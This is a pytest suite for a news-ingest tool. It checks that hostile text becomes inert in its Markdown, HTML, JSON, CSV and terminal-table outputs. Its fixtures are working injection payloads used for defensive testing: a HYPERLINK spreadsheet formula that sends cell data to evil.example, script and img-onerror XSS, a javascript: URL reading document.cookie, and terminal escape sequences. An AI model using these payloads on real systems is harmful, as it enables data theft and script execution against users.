"""Hostile text through ingest into every output format (md, html, json, csv, table): inert.

One real ingest (CLI subprocess, extraction on) of articles whose title, outlet, url and
sentences carry HTML, Markdown links and images, spreadsheet formulas, Rich markup and terminal
escape sequences; then each output is checked with a real consumer (CommonMark renderer, lxml,
the csv and json modules).
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import lxml.html
import pytest
from conftest import ROOT
from markdown_it import MarkdownIt

from sitroom.output_safety import (
    csv_cell,
    csv_writer,
    json_text,
    md_text,
    md_url,
    table_cell,
    terminal_text,
)

SITROOM = str(ROOT / ".venv" / "bin" / "sitroom")
ESC = "\x1b"
TITLE = (
    '=HYPERLINK("http://evil.example/?q="&A1,"Open") [/bold] <script>alert(1)</script>'
    " [click](javascript:alert(1)) ![x](http://evil.example/x.png) \x1b]0;owned\x07"
)
OUTLET = "@SUM(1) [bold red]Outlet[/] \x1b[2J"
IMG = "<img src=x onerror=alert(1)>"
LINK = "[click](javascript:alert(1)) ![x](http://evil.example/x.png)"  # in the title
RECORDS = [
    {
        "id": "h1",
        "title": TITLE,
        "source": OUTLET,
        "url": "javascript:alert(document.cookie)",
        "published": "2025-03-03",
        "text": "Russian officials said on Monday that about 12,000 North Korean troops "
        f"{IMG} were deployed to Kursk Oblast.\n"
        "+SUM(1+1) Ukraine said 300 soldiers \x1b[31mwere killed\x1b[0m in the fighting near "
        "Sudzha.",
    },
]
FORMULA_START = tuple("=+-@\t\r")


def run(*args: str, db: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [SITROOM, "--db", db, *args], capture_output=True, cwd=ROOT, timeout=300, check=False
    )


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    tmp = tmp_path_factory.mktemp("hostile")
    src = tmp / "hostile.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in RECORDS), encoding="utf-8")
    db = str(tmp / "h.db")
    out = run("ingest", str(src), db=db)
    assert out.returncode == 0, out.stderr
    return db


def _rendered_is_inert(html: str) -> lxml.html.HtmlElement:
    root = lxml.html.fromstring(f"<div>{html}</div>")
    assert not root.xpath("//script | //img | //iframe | //object | //embed")
    for el in root.iter():
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (el.tag, name)
            assert not value.strip().lower().startswith(("javascript:", "data:")), (el.tag, value)
    return root


def test_markdown_brief_renders_hostile_text_as_text(hostile_db: str, tmp_path: Path) -> None:
    out = run("brief", "--format", "md", db=hostile_db)
    assert out.returncode == 0, out.stderr
    md = out.stdout.decode()
    html = MarkdownIt("commonmark").render(md)  # raw HTML allowed, as many renderers do
    text = _rendered_is_inert(html).text_content()
    assert IMG in text  # shown as written, not dropped and not run
    assert LINK in text and "<script>alert(1)</script>" in text
    assert ESC not in md


def test_html_brief_escapes_hostile_text(hostile_db: str) -> None:
    out = run("brief", "--format", "html", db=hostile_db)
    assert out.returncode == 0, out.stderr
    html = out.stdout.decode()
    assert "<script" not in html.lower()
    root = _rendered_is_inert(html.split("<body", 1)[1].split(">", 1)[1])
    assert IMG in root.text_content()


def test_json_outputs_round_trip_hostile_text(hostile_db: str) -> None:
    out = run("claims", "--format", "json", db=hostile_db)
    claims = json.loads(out.stdout)
    assert ESC.encode() not in out.stdout  # escaped as \u001b, same data
    quotes = {c["quote"] for c in claims}
    assert any(IMG in q for q in quotes) and any(ESC in q for q in quotes)
    docs = json.loads(run("documents", "--format", "jsonl", db=hostile_db).stdout)
    assert docs["title"] == TITLE
    brief = json.loads(run("brief", "--format", "json", db=hostile_db).stdout)
    assert brief  # parses


def test_csv_cells_never_start_a_formula(hostile_db: str) -> None:
    for listing in ("claims", "documents", "sources"):
        out = run(listing, "--format", "csv", db=hostile_db)
        assert out.returncode == 0, out.stderr
        rows = list(csv.reader(io.StringIO(out.stdout.decode())))
        assert len(rows) > 1
        for row in rows:
            for cell in row:
                if cell.startswith(FORMULA_START):
                    float(cell)  # only a number may start with '-' or '+'
    docs = list(
        csv.DictReader(
            io.StringIO(run("documents", "--format", "csv", db=hostile_db).stdout.decode())
        )
    )
    assert docs[0]["title"] == "'" + TITLE  # the text is kept, after the quote
    claims = list(
        csv.DictReader(io.StringIO(run("claims", "--format", "csv", db=hostile_db).stdout.decode()))
    )
    assert any(c["quote"].startswith("'+SUM(1+1)") for c in claims)


def test_tables_show_markup_and_escapes_as_text(hostile_db: str) -> None:
    for listing in ("documents", "claims", "sources"):
        out = run(listing, "--format", "table", db=hostile_db)
        assert out.returncode == 0, out.stderr  # '[/bold]' used to crash Rich
        assert ESC.encode() not in out.stdout and b"\x07" not in out.stdout
    docs = run("documents", "--format", "table", db=hostile_db).stdout.decode()
    assert "[/bold]" in docs and "\\x1b" in docs
    sources = run("sources", "--format", "table", db=hostile_db).stdout.decode()
    assert "[bold red]Outlet[/]" in sources


# ---------------------------------------------------------------- the shared rules, directly


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+SUM(1)", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "  =1", "\uff1d1+1", "\x00=1"],
)
def test_csv_cell_prefixes_formula_starts(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", ["Kyiv", "", "12,000 troops", "'quoted", -3.5, 7, None, True])
def test_csv_cell_keeps_other_values(value: object) -> None:
    assert csv_cell(value) == value


def test_csv_writer_neutralises_header_and_rows() -> None:
    buf = io.StringIO()
    writer = csv_writer(buf, ["=evil", "b"])
    writer.writeheader()
    writer.writerows([{"=evil": "@x", "b": -1.5}])
    writer.writerow({"=evil": 'a "quoted", cell\n=2', "b": "+1"})
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["'=evil", "b"], ["'@x", "-1.5"], ['a "quoted", cell\n=2', "'+1"]]


def test_md_text_has_no_active_syntax() -> None:
    hostile = "<b>x</b> & [a](b) ![i](j) *e* _u_ `c` | t ~s~ \\ \n# head\n> q"
    rendered = (
        MarkdownIt("commonmark")
        .enable("table")
        .enable("strikethrough")
        .render(f"- {md_text(hostile)}")
    )
    root = _rendered_is_inert(rendered)
    assert not root.xpath("//a | //b | //em | //strong | //code | //h1 | //blockquote | //s")
    assert root.text_content().strip() == " ".join(hostile.split())


def test_md_url_only_http() -> None:
    assert md_url("javascript:alert(1)") is None and md_url("data:text/html,x") is None
    assert md_url("https://voanews.com/a b>c<d") == "https://voanews.com/a%20b%3Ec%3Cd"


def test_terminal_text_and_cells() -> None:
    raw = "a\x1b[31mb\x9b2Jc\x07\u202ed\r\ne"
    shown = terminal_text(raw, one_line=True)
    assert shown == "a\\x1b[31mb\\x9b2Jc\\x07\\u202ed e"
    assert "\n" in terminal_text("line1\nline2")
    cell = table_cell("[/bold] [link=x]y[/link]")
    assert cell.plain == "[/bold] [link=x]y[/link]" and not cell.spans
    assert json_text(json.dumps("\x85\u2028", ensure_ascii=False)) == '"\\u0085\\u2028"'


def test_terminal_lines_show_escapes_in_file_names(tmp_path: Path) -> None:
    name = tmp_path / "evil\x1b]0;owned\x07\x1b[2J.txt"
    name.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    out = run("ingest", str(name), db=str(tmp_path / "t.db"))
    assert b"\x1b" not in out.stdout and b"\x07" not in out.stdout
    assert b"evil\\x1b]0;owned\\x07\\x1b[2J.txt" in out.stdout and b"binary" in out.stdout
    bad = run("stats", db=str(tmp_path / "no\x1b[31m" / "x.db"))
    assert bad.returncode != 0 and b"\x1b" not in bad.stderr and b"no\\x1b[31m" in bad.stderr
